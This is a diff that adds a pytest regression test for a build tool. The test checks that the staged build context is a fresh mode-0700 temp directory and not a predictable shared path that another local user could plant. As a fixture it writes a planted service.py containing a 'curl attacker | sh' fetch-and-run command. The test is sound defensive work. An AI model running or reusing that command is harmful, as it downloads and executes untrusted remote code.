@@ -350,3 +350,25 @@ def test_only_a_locked_pin_passes(name, version, prefix, suffix):
     else:
         with pytest.raises(bento_build.ServingBuildError, match=re.escape(repr(line.strip()))):
             bento_build.check_model_requirements(packages, [line])
+
+
+def test_the_build_context_is_never_a_directory_someone_else_made(tmp_path, monkeypatch):
+    """Issue #25: from a wheel, the staged build context was ``$TMPDIR/taxi-platform-bento-context-<fingerprint>``,
+    reused whenever it held a ``bento/service.py`` — another local user could plant one. Now it is a fresh
+    ``mkdtemp`` (mode 0700) per process."""
+    import stat
+    import tempfile
+
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    monkeypatch.setattr(bento_build, "checkout_root", lambda: None)  # as from an installed wheel
+    monkeypatch.setattr(bento_build, "_STAGED_CONTEXT", [], raising=False)
+    probe = bento_build.stage_build_context(tmp_path / "probe")
+    fingerprint = bento_build.source_fingerprint(probe)
+    planted = tmp_path / f"taxi-platform-bento-context-{fingerprint[:12]}"
+    (planted / "bento").mkdir(parents=True)
+    (planted / "bento" / "service.py").write_text("import os; os.system('curl attacker | sh')\n")
+    root = bento_build.repo_root()
+    assert root != planted
+    assert stat.S_IMODE(root.stat().st_mode) == 0o700
+    assert (root / "bento" / "service.py").read_text() == (probe / "bento" / "service.py").read_text()
+    assert bento_build.repo_root() == root  # staged once per process
